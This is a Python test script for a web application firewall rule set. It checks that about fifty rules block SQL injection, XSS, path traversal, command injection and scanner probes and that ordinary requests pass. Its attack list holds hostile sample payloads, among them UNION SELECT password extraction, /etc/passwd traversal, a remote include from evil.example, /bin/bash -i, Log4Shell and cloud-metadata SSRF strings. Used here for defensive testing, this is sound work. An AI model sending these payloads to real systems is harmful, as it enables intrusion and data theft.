#!/usr/bin/env python3
# The shipped rule set (etc/rules/portico-rules.conf): it loads (every pattern compiles,
# the combined patterns too), every group refuses the attacks it is for, each rule at
# least once, and a corpus of ordinary requests goes through untouched.
import os, re, sys
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from filtertest import *

RULESET = os.path.join(srcdir(), "etc", "rules", "portico-rules.conf")
if not os.path.exists(TEST_BIN):
    skip_all("no test binary (t/portico-test; make check builds it)")

CONF = """workers = 1;
error_log = { path = "{tmp}/error.log"; level = "debug"; };
access_log = { enabled = false; };
limits = { max_body_size = 0; };
listeners = ( { name = "main"; address = "127.0.0.1:{port}"; } );
filters = {
  rules = (
@include "%s"
  );
  global = { rules = [ "sqli", "xss", "traversal", "cmdi", "scanner" ]; };
};
routes = (
  { path_prefix = "/_counters"; test_counters = true; },
  { path_prefix = "/"; return = { body = "ok\\n"; }; }
);
""" % RULESET

names = re.findall(r'^\{ name = "([a-z0-9-]+)"', open(RULESET).read(), re.M)
cmp_ok(len(names), ">=", 45, "the rule set has %d rules" % len(names))
p = Portico(CONF, bin=TEST_BIN)
unlike(p.error_log(), r"do not combine into one", "every input's patterns combine into one")


def send(method="GET", target="/", headers=(), body=None):
    return p.request(build_request(method, target, "a.example", headers=list(headers), body=body))


FORM = [("Content-Type", "application/x-www-form-urlencoded")]
ATTACKS = [
    # (request, the rule that must refuse it)
    (dict(target="/search?q=1%20UNION%20ALL%20SELECT%20password%20FROM%20users"), "sqli-union-select"),
    (dict(target="/p?id=1'%20or%20'a'='a"), "sqli-quote-tautology"),
    (dict(target="/p?id=1%20AND%201=1--"), "sqli-numeric-tautology"),
    (dict(target="/login?user=admin'--%20"), "sqli-quote-comment"),
    (dict(target="/p?id=1;%20DROP%20TABLE%20users"), "sqli-stacked-query"),
    (dict(target="/p?id=1%20and%20sleep(5)"), "sqli-time-delay"),
    (dict(target="/p?t=information_schema.tables"), "sqli-schema-tables"),
    (dict(target="/p?f=load_file('/x')"), "sqli-file-access"),
    (dict(target="/p?c=exec%20master..xp_cmdshell"), "sqli-mssql-procedures"),
    (dict(target="/p?id=1/*!50000select*/"), "sqli-versioned-comment"),
    (dict(target="/p?x=CHAR(115,101,108)"), "sqli-char-sequence"),
    (dict(target="/p?x=select%20@@version"), "sqli-hex-select"),
    (dict(target="/p?s=1%20having%201=1"), "sqli-having-group"),
    (dict(target="/p?x=extractvalue(1,concat(0x7e))"), "sqli-error-functions"),
    (dict(target="/p?q=%3CScRiPt%3Ealert(1)%3C/script%3E"), "xss-script-tag"),
    (dict(target="/p?q=%3Cbody%20onload=x%3E"), "xss-event-handler"),
    (dict(target="/p?u=JavaScript:x"), "xss-javascript-uri"),
    (dict(target="/p?q=%3Ciframe%20src=x%3E"), "xss-embedding-tags"),
    (dict(target="/p?u=data:text/html;base64,PHNjcmlwdD4="), "xss-data-html"),
    (dict(target="/p?s=width:expression(alert)"), "xss-css-expression"),
    (dict(target="/p?x=document.cookie"), "xss-dom-access"),
    (dict(target="/p?x=setTimeout(1)"), "xss-script-calls"),
    (dict(target="/p?x=%22%3E%3Cb"), "xss-attribute-injection"),
    (dict(target="/p?x=%26%23x3c;script"), "xss-encoded-tag"),
    (dict(target="/p?x=%3Cimg%20src=x%3E"), "xss-image-source"),
    (dict(target="/p?x={{constructor.constructor('x')()}}"), "xss-template-injection"),
    (dict(target="/p?file=..%2F..%2Fboot"), "traversal-dot-dot"),
    (dict(target="/p?file=%252e%252e%252fx"), "traversal-encoded-dots"),
    (dict(target="/download?f=/etc/passwd"), "traversal-unix-files"),
    (dict(target="/p?f=C:%5Cwindows%5Csystem32%5Ccmd"), "traversal-windows-files"),
    (dict(target="/.git/config"), "traversal-secrets"),
    (dict(target="/index.php.bak"), "traversal-backup-files"),
    (dict(target="/p?f=x%00.jpg"), "traversal-null-byte"),
    (dict(target="/p?f=php://filter/resource=x"), "traversal-stream-wrappers"),
    (dict(target="/p?page=http://evil.example/shell.txt?"), "traversal-remote-include"),
    (dict(target="/p?host=127.0.0.1;cat%20/x"), "cmdi-chained-command"),
    (dict(target="/p?x=/bin/bash%20-i"), "cmdi-shell-paths"),
    (dict(target="/p?x=a${IFS}b"), "cmdi-substitution"),
    (dict(headers=[("User-Agent", "sqlmap/1.7.2#stable")]), "scanner-user-agent"),
    (dict(headers=[("Acunetix-Product", "WVS/13")]), "scanner-headers"),
    (dict(target="/phpmyadmin/index.php"), "scanner-admin-probes"),
    (dict(headers=[("Referer", "() { :; }; /bin/echo x")]), "scanner-shellshock"),
    (dict(headers=[("X-Api-Version", "${jndi:ldap://x/a}")]), "scanner-log4shell"),
    (dict(target="/p?x=%25%7B(%23_memberAccess)%7D"), "scanner-ognl"),
    (dict(target="/p?class.module.classLoader.resources=x"), "scanner-spring4shell"),
    (dict(target="/p?x=phpinfo()"), "scanner-php-probes"),
    (dict(target="/p?url=http://169.254.169.254/latest"), "scanner-ssrf-metadata"),
    (dict(method="POST", target="/xml", body=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://x.example/e">]>'),
     "scanner-xxe"),
    (dict(target="/p?r=x%0d%0aSet-Cookie:%20a=1"), "scanner-crlf-injection"),
    (dict(method="POST", target="/form", headers=FORM, body=b"comment=1+union+select+2"), "sqli-union-select"),
]
mark = p.log_mark()
covered = set()
for kw, rule in ATTACKS:
    m = p.log_mark()
    r = send(**kw)
    found = p.wait_log(r"\(rule \"([a-z0-9-]+)\" matched", 3, m)
    got = found.group(1) if found else None
    covered.add(got)
    is_((r.status, got), (403, rule), "%s: %s" % (rule, kw.get("target", kw.get("headers"))))
missing = sorted(set(names) - covered)
is_(missing, [], "every rule of the set refused at least one attack")
after_attacks = counters(p)
is_(sorted(n for n in names if after_attacks.get("rule:" + n, 0) < 1), [],
    "...and counted it in rule:NAME")

BENIGN = [
    dict(target="/"), dict(target="/index.html"), dict(target="/static/app.min.js"),
    dict(target="/images/logo.v2.png"), dict(target="/blog/2024/05/hello-world/"),
    dict(target="/search?q=what%27s+new+in+2024"), dict(target="/search?q=select+a+plan"),
    dict(target="/search?q=union+station+to+airport"), dict(target="/search?q=rock+%26+roll"),
    dict(target="/search?q=%22exact+phrase%22"), dict(target="/p?sort=price&order=desc"),
    dict(target="/p?email=a.b%2Bc%40example.com"), dict(target="/p?redirect=%2Faccount%2Fsettings"),
    dict(target="/p?ids=1,2,3&page=2"), dict(target="/p?price=10-20&color=red"),
    dict(target="/p?text=I+paid+%2420+for+it"), dict(target="/p?tag=c%23"),
    dict(target="/api/v1/users/42"), dict(target="/p?date=2024-05-01T10:00:00Z"),
    dict(target="/p?q=O%27Reilly"), dict(target="/p?name=Jean-Luc+Picard"),
    dict(target="/docs/a..b/readme"), dict(target="/p?range=1..10"),
    dict(headers=[("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
                                 "Gecko) Chrome/120.0 Safari/537.36")]),
    dict(headers=[("User-Agent", "curl/8.5.0"), ("Accept", "*/*")]),
    dict(headers=[("Cookie", "session=abc123; theme=dark"), ("Accept-Language", "en-US,en;q=0.9")]),
    dict(headers=[("Referer", "https://www.example.com/page?x=1")]),
    dict(method="POST", target="/api", headers=[("Content-Type", "application/json")],
         body=b'{"name": "Alice", "note": "meet at 5 o\'clock", "tags": ["a", "b"]}'),
    dict(method="POST", target="/form", headers=FORM, body=b"name=Bob&comment=Great+post%2C+thanks%21"),
    dict(method="POST", target="/upload", headers=[("Content-Type", "text/plain")],
         body=b"plain text with a -- dash and 'quotes' here"),
]
bad = []
for kw in BENIGN:
    m = p.log_mark()
    r = send(**kw)
    if r.status != 200:
        found = p.wait_log(r"\(rule \"([a-z0-9-]+)\" matched [^)]*\)", 1, m)
        bad.append((kw, r.status, found.group(0) if found else None))
is_(bad, [], "%d ordinary requests pass every rule of the set" % len(BENIGN))

is_(counters(p), after_attacks, "the ordinary requests matched no rule (no counter moved)")
done_testing()
